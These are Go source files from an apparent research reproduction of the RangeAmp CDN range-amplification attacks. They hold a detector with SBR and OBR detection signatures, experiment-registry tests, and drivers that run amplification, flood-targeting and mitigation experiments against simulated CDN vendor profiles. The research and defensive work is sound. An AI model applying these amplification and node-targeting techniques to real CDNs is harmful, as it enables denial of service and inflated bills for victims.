	FlaggedOBR int64
	FlaggedSBR int64
}

type pathWindow struct {
	recent []windowEntry // ring buffer, len <= WindowSize
	next   int
}

type windowEntry struct {
	key   string // cache key (path + query)
	small bool
}

// New returns a detector with cfg (zero fields defaulted).
func New(cfg Config) *Detector {
	if cfg.SmallRangeBytes <= 0 {
		cfg.SmallRangeBytes = defaultSmallRangeBytes
	}
	if cfg.WindowSize <= 0 {
		cfg.WindowSize = defaultWindowSize
	}
	if cfg.SmallBustingThreshold <= 0 {
		cfg.SmallBustingThreshold = defaultSmallBusting
	}
	if cfg.MaxRanges <= 0 {
		cfg.MaxRanges = defaultMaxRanges
	}
	reg := cfg.Metrics
	if reg == nil {
		reg = metrics.Default
	}
	const flagName = "detect_flagged_total"
	const flagHelp = "Requests the RangeAmp detector flagged as malicious, by attack and signature."
	return &Detector{
		cfg:     cfg,
		windows: make(map[string]*pathWindow),
		mInspected: reg.Counter("detect_inspected_total",
			"Range requests the RangeAmp detector inspected."),
		mFlagRanges: reg.Counter(flagName, flagHelp,
			metrics.L("attack", "obr"), metrics.L("reason", "ranges")),
		mFlagOver: reg.Counter(flagName, flagHelp,
			metrics.L("attack", "obr"), metrics.L("reason", "overlap")),
		mFlagBust: reg.Counter(flagName, flagHelp,
			metrics.L("attack", "sbr"), metrics.L("reason", "busting")),
	}
}

// Inspect examines one request and returns a verdict. Requests without
// a Range header are never malicious to this detector.
func (d *Detector) Inspect(req *httpwire.Request) Verdict {
	raw, hasRange := req.Headers.Get("Range")
	if !hasRange {
		return Verdict{}
	}
	set, err := ranges.Parse(raw)
	if err != nil {
		return Verdict{} // the edge ignores malformed Range headers anyway
	}

	d.mu.Lock()
	defer d.mu.Unlock()
	d.stats.Inspected++
	d.mInspected.Inc()

	// OBR signatures: stateless per request.
	if len(set) > d.cfg.MaxRanges {
		d.stats.FlaggedOBR++
		d.mFlagRanges.Inc()
		return Verdict{Malicious: true, Reason: fmt.Sprintf("%d ranges exceed the %d-range limit", len(set), d.cfg.MaxRanges)}
	}
	if !d.cfg.DisableOverlapCheck && len(set) > 1 && set.OverlappingSpecs() {
		d.stats.FlaggedOBR++
		d.mFlagOver.Inc()
		return Verdict{Malicious: true, Reason: "overlapping byte ranges"}
	}

	// SBR signature: tiny ranges with churning cache keys on one path.
	small := isSmallSet(set, d.cfg.SmallRangeBytes)
	w := d.windows[req.Path()]
	if w == nil {
		w = &pathWindow{}
		d.windows[req.Path()] = w
	}
	w.push(windowEntry{key: req.Target, small: small}, d.cfg.WindowSize)
	if small && w.smallDistinctKeys() >= d.cfg.SmallBustingThreshold {
		d.stats.FlaggedSBR++
		d.mFlagBust.Inc()
		return Verdict{Malicious: true, Reason: fmt.Sprintf(
			"%d small-range requests with distinct cache keys for %s", w.smallDistinctKeys(), req.Path())}
	}
	return Verdict{}
}

// Screen adapts the detector to the cdn.Inspector contract, so an
// Edge can be built with Inspector: detector.
func (d *Detector) Screen(req *httpwire.Request) (malicious bool, reason string) {
	v := d.Inspect(req)
	return v.Malicious, v.Reason
}

// Stats returns a snapshot of the counters.
func (d *Detector) Stats() Stats {
	d.mu.Lock()
	defer d.mu.Unlock()
	return d.stats
}

// Reset clears all windows and counters.
func (d *Detector) Reset() {
	d.mu.Lock()
	defer d.mu.Unlock()
	d.windows = make(map[string]*pathWindow)
	d.stats = Stats{}
}

// isSmallSet reports whether every spec in the set is a small range.
// Suffix specs are small when the suffix length is small; open-ended
// specs are never small (they legitimately fetch file tails).
func isSmallSet(set ranges.Set, limit int64) bool {
	for _, s := range set {
		switch {
		case s.IsSuffix():
			if s.SuffixLen > limit {
				return false
			}
		case s.Last == ranges.Unbounded:
			return false
		default:
			if s.Last-s.First+1 > limit {
				return false
			}
		}
	}
	return true
}

func (w *pathWindow) push(e windowEntry, size int) {
	if len(w.recent) < size {
		w.recent = append(w.recent, e)
		return
	}
	w.recent[w.next] = e
	w.next = (w.next + 1) % size
}

// smallDistinctKeys counts distinct cache keys among the window's
// small-range entries — the cache-busting signature.
func (w *pathWindow) smallDistinctKeys() int {
	keys := make(map[string]struct{}, len(w.recent))
	for _, e := range w.recent {
		if e.small {
			keys[e.key] = struct{}{}
		}
	}
	return len(keys)
}

// DescribeConfig renders the effective thresholds (for logs/CLIs).
func (d *Detector) DescribeConfig() string {
	var b strings.Builder
	fmt.Fprintf(&b, "small<=%dB window=%d busting>=%d maxRanges=%d overlapCheck=%v",
		d.cfg.SmallRangeBytes, d.cfg.WindowSize, d.cfg.SmallBustingThreshold,
		d.cfg.MaxRanges, !d.cfg.DisableOverlapCheck)
	return b.String()
}
