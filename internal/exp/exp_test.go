package exp

import (
	"context"
	"errors"
	"strings"
	"testing"

	"repro/internal/trace"
)

// expectedNames is the paper-order registry walk `-exp all` performs —
// the old serial dispatch order, then the post-paper extensions in
// registration order.
var expectedNames = []string{
	"table1", "table2", "table3", "sbr", "obr", "bandwidth",
	"bandwidth-all", "mitigation", "corpus", "cost", "h2", "nodes",
	"vtimeflood",
}

func TestNamesPaperOrder(t *testing.T) {
	got := Names()
	if len(got) != len(expectedNames) {
		t.Fatalf("registry has %d experiments, want %d: %v", len(got), len(expectedNames), got)
	}
	for i, want := range expectedNames {
		if got[i] != want {
			t.Errorf("Names()[%d] = %q, want %q", i, got[i], want)
		}
	}
}

func TestLookupResolvesEveryLegacyName(t *testing.T) {
	// The 13 names the old cmd switch accepted.
	legacy := append([]string{"fig6"}, expectedNames...)
	for _, name := range legacy {
		e, ok := Lookup(name)
		if !ok {
			t.Errorf("Lookup(%q) failed", name)
			continue
		}
		if e.Describe() == "" {
			t.Errorf("%s: empty description", name)
		}
	}
}

func TestLookupAliasSharesExperiment(t *testing.T) {
	viaAlias, ok1 := Lookup("fig6")
	canonical, ok2 := Lookup("sbr")
	if !ok1 || !ok2 || viaAlias != canonical {
		t.Errorf("fig6 alias does not resolve to sbr: %v %v", ok1, ok2)
	}
	if viaAlias.Name() != "sbr" {
		t.Errorf("alias target name = %q", viaAlias.Name())
	}
}

func TestRunUnknownName(t *testing.T) {
	_, err := Run(context.Background(), "nonsense", Params{})
	if err == nil {
		t.Fatal("unknown experiment accepted")
	}
	msg := err.Error()
	if !strings.Contains(msg, `"nonsense"`) {
		t.Errorf("error does not name the experiment: %v", err)
	}
	// The error must list what IS available, aliases included.
	for _, want := range []string{"table1", "fig6", "nodes"} {
		if !strings.Contains(msg, want) {
			t.Errorf("error missing known name %q: %v", want, err)
		}
	}
}

func TestRunRejectsTraceWithRuntime(t *testing.T) {
	_, err := Run(context.Background(), "table1", Params{
		Runtime: NewRuntime(),
		Trace:   trace.New(trace.Config{SampleEvery: 1}),
	})
	if !errors.Is(err, ErrTraceWithRuntime) {
		t.Fatalf("Run with both Trace and Runtime: err = %v, want ErrTraceWithRuntime", err)
	}
	if !strings.Contains(err.Error(), "table1") {
		t.Errorf("error does not name the experiment: %v", err)
	}
}

func TestListMatchesNames(t *testing.T) {
	names := Names()
	list := List()
	if len(list) != len(names) {
		t.Fatalf("List() has %d entries, Names() %d", len(list), len(names))
	}
	for i, e := range list {
		if e.Name() != names[i] {
			t.Errorf("List()[%d] = %q, want %q", i, e.Name(), names[i])
		}
	}
}

func TestRegisterDuplicatePanics(t *testing.T) {
	defer func() {
		if recover() == nil {
			t.Error("duplicate registration did not panic")
		}
	}()
	Register(Func("table1", "dup", nil))
}

func TestRegisterReservedNamePanics(t *testing.T) {
	defer func() {
		if recover() == nil {
			t.Error("registering 'all' did not panic")
		}
	}()
	Register(Func("all", "reserved", nil))
}

func TestRegisterAliasShadowPanics(t *testing.T) {
	defer func() {
		if recover() == nil {
			t.Error("alias shadowing an experiment did not panic")
		}
	}()
	RegisterAlias("table2", "table1")
}

func TestParamsDefaults(t *testing.T) {
	p := Params{}.withDefaults()
	if len(p.SizesMB) != 3 || p.SizesMB[0] != 1 || p.SizesMB[2] != 25 {
		t.Errorf("default sizes = %v", p.SizesMB)
	}
	if p.Parallel != 1 {
		t.Errorf("default parallel = %d", p.Parallel)
	}
	p = Params{SizesMB: []int{4}, Parallel: 6}.withDefaults()
	if len(p.SizesMB) != 1 || p.Parallel != 6 {
		t.Errorf("explicit params overridden: %+v", p)
	}
}

func TestRunCancelledContext(t *testing.T) {
	ctx, cancel := context.WithCancel(context.Background())
	cancel()
	for _, name := range expectedNames {
		if _, err := Run(ctx, name, Params{}); err == nil {
			t.Errorf("%s: cancelled context accepted", name)
		}
	}
}

func TestRunAllCancelledMidSuite(t *testing.T) {
	ctx, cancel := context.WithCancel(context.Background())
	cancel()
	if _, err := RunAll(ctx, Params{Parallel: 4}); err == nil {
		t.Error("RunAll on a cancelled context succeeded")
	}
}

func TestRunAllShortSuite(t *testing.T) {
	if testing.Short() {
		t.Skip("full experiment suite")
	}
	results, err := RunAll(context.Background(), Params{SizesMB: []int{1}, Parallel: 8})
	if err != nil {
		t.Fatal(err)
	}
	if len(results) != len(expectedNames) {
		t.Fatalf("%d results", len(results))
	}
	for i, nr := range results {
		if nr.Name != expectedNames[i] {
			t.Errorf("result %d is %q, want %q", i, nr.Name, expectedNames[i])
		}
		var b strings.Builder
		if err := nr.Result.Render(&b); err != nil {
			t.Fatal(err)
		}
		if b.Len() == 0 {
			t.Errorf("%s: empty rendering", nr.Name)
		}
	}
}
