package exp

import (
	"context"
	"fmt"

	"repro/internal/cluster"
	"repro/internal/core"
	"repro/internal/report"
	"repro/internal/vendor"
)

// ---------------------------------------------------------------------
// Experiment X2 — §VI-C mitigations.

// Mitigations re-runs SBR and OBR against mitigated vendor profiles to
// show each §VI-C fix collapsing the amplification factor. The SBR and
// OBR configuration cells fan out across one scheduler pass.
func Mitigations(ctx context.Context, parallel int) (*report.Table, error) {
	return MitigationsEnv(ctx, nil, parallel)
}

// MitigationsEnv is Mitigations reporting into an explicit runtime
// environment.
func MitigationsEnv(ctx context.Context, rt *Runtime, parallel int) (*report.Table, error) {
	const sizeMB = 10
	size := int64(sizeMB) * core.MiB

	sbrConfigs := []struct {
		label   string
		profile *vendor.Profile
	}{
		{"vulnerable (Deletion)", vendor.Cloudflare()},
		{"Laziness policy", vendor.MitigateLaziness(vendor.Cloudflare())},
		{"bounded Expansion (+8KB)", vendor.MitigateBoundedExpansion(vendor.Cloudflare(), 8<<10)},
		{"1MB slicing", vendor.MitigateSlicing(vendor.Cloudflare(), 1<<20)},
	}
	obrConfigs := []struct {
		label string
		bcdn  *vendor.Profile
	}{
		{"vulnerable (serve-all)", vendor.Akamai()},
		{"reject overlapping ranges", vendor.MitigateRejectOverlap(vendor.Akamai())},
		{"coalesce overlapping ranges", vendor.MitigateCoalesce(vendor.Akamai())},
	}

	type row struct{ attack, label, factor string }
	n := len(sbrConfigs) + len(obrConfigs)
	rows, err := Map(ctx, parallel, n, func(ctx context.Context, i int) (row, error) {
		if err := ctx.Err(); err != nil {
			return row{}, err
		}
		if i < len(sbrConfigs) {
			c := sbrConfigs[i]
			store := core.NewStoreWith(size)
			topo, err := core.NewSBRTopology(c.profile, store, core.SBROptions{OriginRangeSupport: true, Runtime: rt})
			if err != nil {
				return row{}, err
			}
			sbr, err := core.RunSBRContext(ctx, topo, core.TargetPath, size, "mitigation")
			topo.Close()
			if err != nil {
				return row{}, fmt.Errorf("sbr %s: %w", c.label, err)
			}
			return row{"SBR (Cloudflare)", c.label, fmt.Sprintf("%.1f", sbr.Amplification.Factor())}, nil
		}
		c := obrConfigs[i-len(sbrConfigs)]
		store := core.NewStoreWith(1024)
		topo, err := core.NewOBRTopologyOpts(vendor.Cloudflare(), c.bcdn, store, core.OBROptions{Runtime: rt})
		if err != nil {
			return row{}, err
		}
		obr, err := core.RunOBRContext(ctx, topo, core.TargetPath, 256)
		topo.Close()
		if err != nil {
			return row{}, fmt.Errorf("obr %s: %w", c.label, err)
		}
		return row{"OBR (Cloudflare->Akamai, n=256)", c.label,
			fmt.Sprintf("%.1f", obr.Amplification.Factor())}, nil
	})
	if err != nil {
		return nil, err
	}
	tab := &report.Table{
		Title:   "Mitigations (§VI-C) — amplification with and without each fix",
		Slug:    "mitigation",
		Columns: []string{"Attack", "Configuration", "Factor"},
	}
	for _, r := range rows {
		tab.AddRow(r.attack, r.label, r.factor)
	}
	return tab, nil
}

// ---------------------------------------------------------------------
// Experiment X1 — the RFC 7233 ABNF corpus audit.

// CorpusAudit sends a seeded corpus of valid range requests through
// every vendor edge (one isolated topology per vendor, fanned out) and
// reports the forwarding-policy census plus protocol-invariant
// violations.
func CorpusAudit(ctx context.Context, seed int64, count, parallel int) (*core.CorpusReport, error) {
	return CorpusAuditEnv(ctx, nil, seed, count, parallel)
}

// CorpusAuditEnv is CorpusAudit reporting into an explicit runtime
// environment.
func CorpusAuditEnv(ctx context.Context, rt *Runtime, seed int64, count, parallel int) (*core.CorpusReport, error) {
	corpus := core.NewCorpus(seed, count)
	audits, err := ForEachVendor(ctx, parallel, func(ctx context.Context, p *vendor.Profile) (*core.VendorAudit, error) {
		a, err := core.AuditVendor(ctx, rt, p, corpus)
		if err != nil {
			return nil, fmt.Errorf("%s: %w", p.Name, err)
		}
		return a, nil
	})
	if err != nil {
		return nil, err
	}
	rep := &core.CorpusReport{}
	for _, a := range audits {
		rep.Merge(a)
	}
	return rep, nil
}

// ---------------------------------------------------------------------
// Experiment X5 — §VI-B HTTP/2 comparison.

// H2Comparison runs the SBR exploit over HTTP/1.1 and HTTP/2 against
// every vendor and compares amplification factors.
func H2Comparison(ctx context.Context, sizeMB, parallel int) (*report.Table, map[string][2]float64, error) {
	return H2ComparisonEnv(ctx, nil, sizeMB, parallel)
}

// H2ComparisonEnv is H2Comparison reporting into an explicit runtime
// environment.
func H2ComparisonEnv(ctx context.Context, rt *Runtime, sizeMB, parallel int) (*report.Table, map[string][2]float64, error) {
	size := int64(sizeMB) * core.MiB
	type cell struct {
		display string
		f1, f2  float64
	}
	cells, err := ForEachVendor(ctx, parallel, func(ctx context.Context, p *vendor.Profile) (cell, error) {
		if err := ctx.Err(); err != nil {
			return cell{}, err
		}
		store := core.NewStoreWith(size)
		topo, err := core.NewSBRTopology(p, store, core.SBROptions{OriginRangeSupport: true, Runtime: rt})
		if err != nil {
			return cell{}, err
		}
		if err := topo.EnableH2(); err != nil {
			topo.Close()
			return cell{}, err
		}
		if err := core.PrimeSizeHint(topo, core.TargetPath); err != nil {
			topo.Close()
			return cell{}, err
		}

		h1Res, err := core.RunSBRContext(ctx, topo, core.TargetPath, size, "h1")
		if err != nil {
			topo.Close()
			return cell{}, fmt.Errorf("%s h1: %w", p.Name, err)
		}
		h2Res, err := core.RunSBROverH2(topo, core.TargetPath, size, "h2")
		topo.Close()
		if err != nil {
			return cell{}, fmt.Errorf("%s h2: %w", p.Name, err)
		}
		return cell{display: p.DisplayName,
			f1: h1Res.Amplification.Factor(), f2: h2Res.Amplification.Factor()}, nil
	})
	if err != nil {
		return nil, nil, err
	}
	factors := make(map[string][2]float64, len(cells))
	tab := &report.Table{
		Title:   fmt.Sprintf("§VI-B — SBR amplification over HTTP/1.1 vs HTTP/2 (%dMB resource)", sizeMB),
		Slug:    "h2",
		Columns: []string{"CDN", "HTTP/1.1 Factor", "HTTP/2 Factor", "h2/h1"},
	}
	for _, c := range cells {
		factors[c.display] = [2]float64{c.f1, c.f2}
		tab.AddRow(c.display,
			fmt.Sprintf("%.0f", c.f1),
			fmt.Sprintf("%.0f", c.f2),
			fmt.Sprintf("%.2f", c.f2/c.f1))
	}
	return tab, factors, nil
}

// ---------------------------------------------------------------------
// Experiment X6 — ingress-node targeting strategies.

// NodeTargeting drives SBR request floods through a multi-node cluster
// under pinned and spread ingress selection; the two strategy cells run
// concurrently on isolated clusters.
func NodeTargeting(ctx context.Context, nodeCount, requests, parallel int) (*report.Table, map[string]float64, error) {
	return NodeTargetingEnv(ctx, nil, nodeCount, requests, parallel)
}

// NodeTargetingEnv is NodeTargeting reporting into an explicit runtime
// environment.
func NodeTargetingEnv(ctx context.Context, rt *Runtime, nodeCount, requests, parallel int) (*report.Table, map[string]float64, error) {
	strategies := []struct {
		label string
		sel   cluster.Selector
	}{
		{"pinned", cluster.Pinned{Index: 0}},
		{"spread", &cluster.RoundRobin{}},
	}
	stats, err := Map(ctx, parallel, len(strategies), func(ctx context.Context, i int) (*core.NodeStrategyStats, error) {
		return core.RunNodeStrategy(ctx, rt, strategies[i].label, strategies[i].sel, nodeCount, requests)
	})
	if err != nil {
		return nil, nil, err
	}
	shares := make(map[string]float64, len(stats))
	tab := &report.Table{
		Title: fmt.Sprintf("§IV-C vs §VI-A — ingress-node load under pinned and spread selection (%d nodes, %d SBR requests)",
			nodeCount, requests),
		Slug:    "nodes",
		Columns: []string{"Strategy", "Busiest Node Share", "Busiest Node Upstream", "Idle Nodes"},
	}
	for _, s := range stats {
		shares[s.Label] = s.Share
		tab.AddRow(s.Label,
			fmt.Sprintf("%.2f", s.Share),
			fmt.Sprintf("%d", s.BusiestUpstream),
			fmt.Sprintf("%d/%d", s.IdleNodes, nodeCount))
	}
	return tab, shares, nil
}
