package exp

import (
	"context"
	"time"

	"repro/internal/billing"
	"repro/internal/report"
)

// The registrations below define the canonical experiment set and its
// paper order (`-exp all` runs exactly this walk). Each body only
// adapts a typed entry point to the Params/Result shape; the
// measurement logic lives with the entry points in this package and
// the probe cells in internal/core.
func init() {
	Register(Func("table1", "Table I — range forwarding behaviours (SBR)",
		func(ctx context.Context, p Params) (*Result, error) {
			tab, _, err := Table1Env(ctx, p.Runtime, p.Parallel)
			if err != nil {
				return nil, err
			}
			return &Result{Tables: []*report.Table{tab}}, nil
		}))

	Register(Func("table2", "Table II — multi-range forwarding (OBR FCDN side)",
		func(ctx context.Context, p Params) (*Result, error) {
			tab, _, err := Table2Env(ctx, p.Runtime, p.Parallel)
			if err != nil {
				return nil, err
			}
			return &Result{Tables: []*report.Table{tab}}, nil
		}))

	Register(Func("table3", "Table III — multi-range replying (OBR BCDN side)",
		func(ctx context.Context, p Params) (*Result, error) {
			tab, _, err := Table3Env(ctx, p.Runtime, p.Parallel)
			if err != nil {
				return nil, err
			}
			return &Result{Tables: []*report.Table{tab}}, nil
		}))

	Register(Func("sbr", "Table IV + Fig 6 — SBR amplification sweep over resource sizes",
		func(ctx context.Context, p Params) (*Result, error) {
			res, err := SBRSweepEnv(ctx, p.Runtime, p.SizesMB, p.Parallel)
			if err != nil {
				return nil, err
			}
			fa, fb, fc := res.Fig6()
			return &Result{
				Tables:  []*report.Table{res.Table4()},
				Figures: []*report.Figure{fa, fb, fc},
			}, nil
		}))

	Register(Func("obr", "Table V — OBR max amplification across cascaded CDN pairs",
		func(ctx context.Context, p Params) (*Result, error) {
			tab, _, err := Table5Env(ctx, p.Runtime, p.Parallel)
			if err != nil {
				return nil, err
			}
			return &Result{Tables: []*report.Table{tab}}, nil
		}))

	Register(Func("bandwidth", "Fig 7 — bandwidth practicability at fixed request rates",
		func(ctx context.Context, p Params) (*Result, error) {
			fig7a, fig7b, err := BandwidthEnv(ctx, p.Runtime, DefaultBandwidthConfig())
			if err != nil {
				return nil, err
			}
			return &Result{Figures: []*report.Figure{fig7a, fig7b}}, nil
		}))

	Register(Func("bandwidth-all", "Fig 7 calibration across all 13 CDNs (saturating m)",
		func(ctx context.Context, p Params) (*Result, error) {
			tab, err := BandwidthAllEnv(ctx, p.Runtime, DefaultBandwidthConfig(), p.Parallel)
			if err != nil {
				return nil, err
			}
			return &Result{Tables: []*report.Table{tab}}, nil
		}))

	Register(Func("mitigation", "§VI-C — amplification with and without each mitigation",
		func(ctx context.Context, p Params) (*Result, error) {
			tab, err := MitigationsEnv(ctx, p.Runtime, p.Parallel)
			if err != nil {
				return nil, err
			}
			return &Result{Tables: []*report.Table{tab}}, nil
		}))

	Register(Func("corpus", "RFC 7233 ABNF corpus audit — policy census and invariants",
		func(ctx context.Context, p Params) (*Result, error) {
			rep, err := CorpusAuditEnv(ctx, p.Runtime, 1, 200, p.Parallel)
			if err != nil {
				return nil, err
			}
			res := &Result{Tables: []*report.Table{rep.Table()}}
			for _, v := range rep.Violations {
				res.Notes = append(res.Notes, "VIOLATION: "+v)
			}
			return res, nil
		}))

	Register(Func("cost", "§V-E — victim traffic cost on CDN billing plans",
		func(ctx context.Context, p Params) (*Result, error) {
			if err := ctx.Err(); err != nil {
				return nil, err
			}
			tab := billing.CostTable(10<<20, 10, time.Hour)
			tab.Slug = "cost"
			return &Result{Tables: []*report.Table{tab}}, nil
		}))

	Register(Func("h2", "§VI-B — SBR amplification over HTTP/1.1 vs HTTP/2",
		func(ctx context.Context, p Params) (*Result, error) {
			tab, _, err := H2ComparisonEnv(ctx, p.Runtime, p.SizesMB[0], p.Parallel)
			if err != nil {
				return nil, err
			}
			return &Result{Tables: []*report.Table{tab}}, nil
		}))

	Register(Func("nodes", "§IV-C vs §VI-A — ingress-node load under pinned vs spread selection",
		func(ctx context.Context, p Params) (*Result, error) {
			tab, _, err := NodeTargetingEnv(ctx, p.Runtime, 5, 50, p.Parallel)
			if err != nil {
				return nil, err
			}
			return &Result{Tables: []*report.Table{tab}}, nil
		}))

	Register(Func("vtimeflood", "Virtual-time engine — pipe-identical byte accounting at flood scale",
		func(ctx context.Context, p Params) (*Result, error) {
			tab, err := VTimeFloodEnv(ctx, p.Runtime, p.Parallel)
			if err != nil {
				return nil, err
			}
			return &Result{Tables: []*report.Table{tab}}, nil
		}))

	RegisterAlias("fig6", "sbr")
}
