// Package exp is the experiment layer of the reproduction: a registry
// of the paper's evaluation experiments (Tables I-V, Figs 6-7, and the
// §V/§VI extension studies) built on a shared parallel vendor
// scheduler. Each experiment is a named, self-describing unit; its
// per-vendor probe cells each stand up an isolated netsim topology, so
// they fan out to a bounded worker pool (Map / ForEachVendor) and are
// collected by index, keeping table row order deterministic no matter
// which cell finishes first. Cancellation of the run context is
// honored between cells and at the topology-construction boundaries
// inside them.
//
// Adding experiment #14 is one registration against the same scheduler:
//
//	func init() {
//		Register(Func("myexp", "what it measures",
//			func(ctx context.Context, p Params) (*Result, error) {
//				rows, err := ForEachVendor(ctx, p.Parallel, probeOneVendor)
//				if err != nil {
//					return nil, err
//				}
//				tab := &report.Table{Title: "...", Slug: "myexp", Columns: ...}
//				for _, r := range rows {
//					tab.AddRow(r...)
//				}
//				return &Result{Tables: []*report.Table{tab}}, nil
//			}))
//	}
package exp

import (
	"context"
	"errors"
	"fmt"
	"io"
	"sort"
	"strings"
	"sync"

	"repro/internal/metrics"
	"repro/internal/report"
	"repro/internal/trace"
)

// Params carries the run-time knobs every experiment receives.
type Params struct {
	// SizesMB are the resource sizes for the SBR sweep family
	// (Table IV / Fig 6); nil means the paper's 1, 10, 25 MB.
	SizesMB []int

	// Parallel bounds the scheduler's worker pool; values <= 1 run the
	// experiment's cells serially.
	Parallel int

	// Runtime pins the run to one explicit environment. Nil (the
	// default) makes Run build a fresh isolated Runtime per invocation,
	// so concurrent runs share no registry, tracer or store state —
	// their Stats deltas are exact and their hot paths never contend.
	// Pass a shared Runtime only when one cumulative registry across
	// runs is the point (a daemon's /metrics, say). Runtime takes
	// precedence over Trace: setting both is a configuration error and
	// Run returns ErrTraceWithRuntime (configure the Runtime's Trace
	// field instead).
	Runtime *Runtime

	// Trace, when set, overrides the tracer inside the Runtimes Run
	// builds. cmd/rangeamp uses this to route every run's spans into
	// the process tracer its -trace-out flag exports. Trace only
	// applies when Runtime is nil: a run pinned to an explicit Runtime
	// already names its tracer there, so Run rejects the combination
	// with ErrTraceWithRuntime rather than silently preferring one.
	Trace *trace.Tracer
}

// ErrTraceWithRuntime is returned by Run when Params.Trace and
// Params.Runtime are both set. Trace exists to reroute the tracer of
// the fresh Runtime Run builds; an explicit Runtime brings its own
// Trace field, so the combination is ambiguous and refused instead of
// silently ignoring Trace (the historical behaviour).
var ErrTraceWithRuntime = errors.New(
	"exp: Params.Trace and Params.Runtime are both set; configure Runtime.Trace instead")

// withDefaults fills unset fields with the paper's defaults.
func (p Params) withDefaults() Params {
	if len(p.SizesMB) == 0 {
		p.SizesMB = []int{1, 10, 25}
	}
	if p.Parallel < 1 {
		p.Parallel = 1
	}
	return p
}

// Result is what one experiment produces, in output order: the tables,
// then the figure series, then any free-form trailing note lines.
type Result struct {
	Tables  []*report.Table
	Figures []*report.Figure
	Notes   []string

	// Stats is the metrics-registry delta accumulated while the
	// experiment ran (filled by Run). Each run snapshots its own
	// Runtime's registry, so the delta is exactly what that run did even
	// when many runs execute concurrently — only runs sharing an
	// explicit Params.Runtime see each other's series.
	Stats *metrics.Snapshot
}

// Render writes the result as aligned text.
func (r *Result) Render(w io.Writer) error { return r.render(w, false) }

// RenderCSV writes the tables as CSV; figures and notes stay text
// (figures are replot inputs, not grids with a stable column set).
func (r *Result) RenderCSV(w io.Writer) error { return r.render(w, true) }

func (r *Result) render(w io.Writer, csv bool) error {
	for _, t := range r.Tables {
		var err error
		if csv {
			err = t.RenderCSV(w)
		} else {
			err = t.Render(w)
		}
		if err != nil {
			return err
		}
	}
	for _, f := range r.Figures {
		if err := f.Render(w); err != nil {
			return err
		}
	}
	for _, n := range r.Notes {
		if _, err := fmt.Fprintln(w, n); err != nil {
			return err
		}
	}
	return nil
}

// Experiment is one registered paper experiment.
type Experiment interface {
	// Name is the registry key (the -exp flag value).
	Name() string
	// Describe says what the experiment reproduces, in one line.
	Describe() string
	// Run executes the experiment under ctx with p's knobs.
	Run(ctx context.Context, p Params) (*Result, error)
}

// funcExperiment adapts a function to the Experiment interface.
type funcExperiment struct {
	name, desc string
	run        func(context.Context, Params) (*Result, error)
}

func (f *funcExperiment) Name() string     { return f.name }
func (f *funcExperiment) Describe() string { return f.desc }
func (f *funcExperiment) Run(ctx context.Context, p Params) (*Result, error) {
	return f.run(ctx, p)
}

// Func wraps a run function as a registrable Experiment.
func Func(name, desc string, run func(context.Context, Params) (*Result, error)) Experiment {
	return &funcExperiment{name: name, desc: desc, run: run}
}

var (
	regMu    sync.RWMutex
	registry = make(map[string]Experiment)
	aliases  = make(map[string]string)
	order    []string // canonical names in registration (paper) order
)

// Register adds e under its name. Registration order defines the
// paper-order walk Names/RunAll use. Duplicate or empty names panic:
// they are programmer errors at package init time.
func Register(e Experiment) {
	name := e.Name()
	if name == "" || name == "all" {
		panic("exp: invalid experiment name " + name)
	}
	regMu.Lock()
	defer regMu.Unlock()
	if _, dup := registry[name]; dup {
		panic("exp: duplicate experiment " + name)
	}
	if _, dup := aliases[name]; dup {
		panic("exp: experiment name shadows alias " + name)
	}
	registry[name] = e
	order = append(order, name)
}

// RegisterAlias makes alias resolve to the already-registered
// canonical experiment (e.g. "fig6" -> "sbr"). Aliases are excluded
// from Names so RunAll never runs an experiment twice.
func RegisterAlias(alias, canonical string) {
	regMu.Lock()
	defer regMu.Unlock()
	if _, ok := registry[canonical]; !ok {
		panic("exp: alias to unknown experiment " + canonical)
	}
	if _, dup := registry[alias]; dup {
		panic("exp: alias shadows experiment " + alias)
	}
	aliases[alias] = canonical
}

// Lookup resolves a name (or alias) to its experiment.
func Lookup(name string) (Experiment, bool) {
	regMu.RLock()
	defer regMu.RUnlock()
	if canonical, ok := aliases[name]; ok {
		name = canonical
	}
	e, ok := registry[name]
	return e, ok
}

// Names returns the canonical experiment names in paper order.
func Names() []string {
	regMu.RLock()
	defer regMu.RUnlock()
	out := make([]string, len(order))
	copy(out, order)
	return out
}

// List returns the registered experiments in paper order.
func List() []Experiment {
	regMu.RLock()
	defer regMu.RUnlock()
	out := make([]Experiment, 0, len(order))
	for _, name := range order {
		out = append(out, registry[name])
	}
	return out
}

// Run executes one experiment by name (or alias), attaching the
// metrics delta the run accumulated to the result's Stats. Without an
// explicit Params.Runtime the run gets a fresh isolated environment, so
// the delta is exact by construction — concurrent runs cannot interleave
// their counters.
func Run(ctx context.Context, name string, p Params) (*Result, error) {
	e, ok := Lookup(name)
	if !ok {
		return nil, fmt.Errorf("exp: unknown experiment %q (have %s)",
			name, strings.Join(knownNames(), ", "))
	}
	if p.Runtime != nil && p.Trace != nil {
		return nil, fmt.Errorf("%s: %w", name, ErrTraceWithRuntime)
	}
	p = p.withDefaults()
	if p.Runtime == nil {
		p.Runtime = NewRuntime()
		if p.Trace != nil {
			p.Runtime.Trace = p.Trace
		}
	}
	reg := p.Runtime.Registry()
	before := reg.Snapshot()
	res, err := e.Run(ctx, p)
	if err != nil || res == nil {
		return res, err
	}
	res.Stats = reg.Snapshot().Delta(before)
	return res, nil
}

// knownNames lists canonical names and aliases for error messages.
func knownNames() []string {
	regMu.RLock()
	defer regMu.RUnlock()
	out := make([]string, 0, len(order)+len(aliases))
	out = append(out, order...)
	for a := range aliases {
		out = append(out, a)
	}
	sort.Strings(out)
	return out
}

// NamedResult pairs an experiment name with its result.
type NamedResult struct {
	Name   string
	Result *Result
}

// RunAll executes every registered experiment, up to p.Parallel of
// them concurrently (each experiment additionally parallelizes its own
// vendor cells under the same bound). Results come back in paper
// order regardless of completion order.
func RunAll(ctx context.Context, p Params) ([]NamedResult, error) {
	p = p.withDefaults()
	names := Names()
	results, err := Map(ctx, p.Parallel, len(names), func(ctx context.Context, i int) (NamedResult, error) {
		res, err := Run(ctx, names[i], p)
		if err != nil {
			return NamedResult{}, fmt.Errorf("%s: %w", names[i], err)
		}
		return NamedResult{Name: names[i], Result: res}, nil
	})
	if err != nil {
		return nil, err
	}
	return results, nil
}
