package exp

import (
	"context"
	"fmt"
	"strconv"

	"repro/internal/bwsim"
	"repro/internal/core"
	"repro/internal/measure"
	"repro/internal/report"
	"repro/internal/vendor"
)

// ---------------------------------------------------------------------
// Experiment E4 — Fig 7: bandwidth consumption over time.

// BandwidthConfig parameterizes the Fig 7 reproduction.
type BandwidthConfig struct {
	Ms          []int // the m values (paper: 1..15)
